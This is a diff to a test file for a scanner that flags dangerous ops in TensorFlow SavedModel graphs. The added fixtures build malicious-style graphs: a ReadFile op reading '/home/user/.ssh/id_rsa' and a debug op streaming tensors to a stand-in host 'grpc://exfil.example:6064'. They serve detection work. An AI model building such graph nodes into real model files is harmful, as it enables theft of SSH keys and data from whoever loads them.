@@ -1,8 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { bufferSource } from '../../../src/core/byte-source.js';
-import detector from '../../../src/detectors/model/savedmodel-ops.js';
+import detector, { TF_DETAIL_OPS } from '../../../src/detectors/model/savedmodel-ops.js';
 import { readTensorflowGraph } from '../../../src/readers/protobuf/index.js';
-import { buildGraphDef, buildSavedModel, pb, SAVER_FUNCTION, type TfNodeSpec } from '../../builders/protobuf.js';
+import { buildGraphDef, buildSavedModel, pb, SAVER_FUNCTION, tfAttr, type TfNodeSpec } from '../../builders/protobuf.js';
 import { brief, runDetector } from '../detector-tester.js';
 
 const findings = (bytes: Buffer, kind: 'saved-model' | 'graph-def' = 'saved-model') => {
@@ -70,5 +70,40 @@ describe('model/savedmodel-ops: Python-calling ops are critical, file ops high',
   it('a graph cut short is medium, keeping the ops found before', () => {
     const bytes = Buffer.concat([withOp('PyFunc', 'graph'), pb.message(2, [pb.lying(2, 40)])]);
     expect(run(bytes)).toEqual(['dangerousOp:critical', 'incomplete:medium']);
+  });
+});
+
+describe('model/savedmodel-ops: the arguments of a flagged op are evidence', () => {
+  const withDetail = (nodes: TfNodeSpec[]) => {
+    const graph = readTensorflowGraph(bufferSource(buildSavedModel({ metaGraphs: [{ nodes, functions: [SAVER_FUNCTION] }] })), 'saved-model', undefined, TF_DETAIL_OPS);
+    if (!graph.ok) throw new Error(graph.error.message);
+    return runDetector(detector, { graph: graph.value, size: 0 });
+  };
+  it('a PyFunc names the token of the Python function it calls', () => {
+    const [finding] = withDetail([...BENIGN, { name: 'py', op: 'PyFunc', inputs: ['x'], attrs: { token: tfAttr.s('pyfunc_3'), Tin: tfAttr.types([1]), Tout: tfAttr.types([1]) } }]);
+    expect(finding?.message).toContain('token="pyfunc_3"');
+    expect(finding?.message).not.toContain('Tin=');
+    expect(finding?.evidence.details).toMatchObject({ attrs: 'Tin=[DT_FLOAT]; Tout=[DT_FLOAT]; token="pyfunc_3"', inputs: 'x' });
+    expect(finding?.evidence.excerpt).toBe('pyfunc_3');
+  });
+  it('a ReadFile names the file its Const input holds', () => {
+    const [finding] = withDetail([
+      ...BENIGN,
+      { name: 'leak/filename', op: 'Const', attrs: { dtype: tfAttr.type(7), value: tfAttr.stringTensor(['/home/user/.ssh/id_rsa']) } },
+      { name: 'leak', op: 'ReadFile', inputs: ['leak/filename'] },
+    ]);
+    expect(finding?.severity).toBe('high');
+    expect(finding?.message).toContain('input "leak/filename" is the constant "/home/user/.ssh/id_rsa"');
+    expect(finding?.evidence).toMatchObject({ excerpt: '/home/user/.ssh/id_rsa', details: { constInputs: 'leak/filename=["/home/user/.ssh/id_rsa"]' } });
+  });
+  it('a debug op names the URLs it streams tensors to', () => {
+    const [finding] = withDetail([...BENIGN, { name: 'dbg', op: 'DebugIdentityV2', inputs: ['mm'], attrs: { debug_urls: tfAttr.strings(['grpc://exfil.example:6064']), T: tfAttr.type(1) } }]);
+    expect(finding?.message).toContain('debug_urls=["grpc://exfil.example:6064"]');
+  });
+  it('a ReadFile whose path is computed at run time (no Const) shows its inputs only, and a benign graph stays info', () => {
+    const [finding] = withDetail([...BENIGN, { name: 'r', op: 'ReadFile', inputs: ['StringJoin'] }]);
+    expect(finding?.message).toMatch(/in the top-level graph \(meta graph 0\)$/);
+    expect(finding?.evidence.details).toMatchObject({ inputs: 'StringJoin' });
+    expect(brief(withDetail(BENIGN))).toEqual(['graphSummary:info']);
   });
 });
